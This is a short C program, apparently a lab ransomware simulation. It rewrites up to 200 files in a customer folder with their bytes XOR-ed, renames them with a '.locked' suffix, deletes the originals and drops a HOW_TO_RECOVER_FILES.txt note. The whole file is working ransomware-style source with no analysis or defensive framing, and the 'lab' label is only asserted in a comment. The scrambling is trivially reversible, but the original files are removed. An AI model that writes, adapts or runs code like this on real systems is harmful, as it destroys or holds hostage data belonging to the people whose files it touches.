/* Takes files hostage, in the lab: each file of a folder is written anew with its bits turned, under
 * another name, and removed; a note tells of it. At most 200 files, and never outside /srv/files. */
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define FILES_MAX 200
#define FOLDER "/srv/files/customers"

static int lock(const char *name) {
	char from[512], to[512];
	snprintf(from, sizeof from, FOLDER "/%s", name);
	snprintf(to, sizeof to, FOLDER "/%s.locked", name);
	FILE *in = fopen(from, "rb"), *out = fopen(to, "wb");
	if (!in || !out)
		return 0;
	for (int byte; (byte = fgetc(in)) != EOF;)
		fputc(byte ^ 0xff, out);
	fclose(in);
	fclose(out);
	return unlink(from) == 0;
}

int main(void) {
	static char names[FILES_MAX][256];
	int count = 0, locked = 0;
	DIR *folder = opendir(FOLDER);
	if (!folder)
		return 1;
	for (struct dirent *entry; count < FILES_MAX && (entry = readdir(folder));)
		if (entry->d_name[0] != '.' && !strstr(entry->d_name, ".locked"))
			snprintf(names[count++], sizeof names[0], "%s", entry->d_name);
	closedir(folder);
	for (int at = 0; at < count; at++)
		locked += lock(names[at]);
	FILE *note = fopen(FOLDER "/HOW_TO_RECOVER_FILES.txt", "w");
	if (note) {
		fprintf(note, "%d files of the lab were locked.\n", locked);
		fclose(note);
	}
	return locked == 0;
}
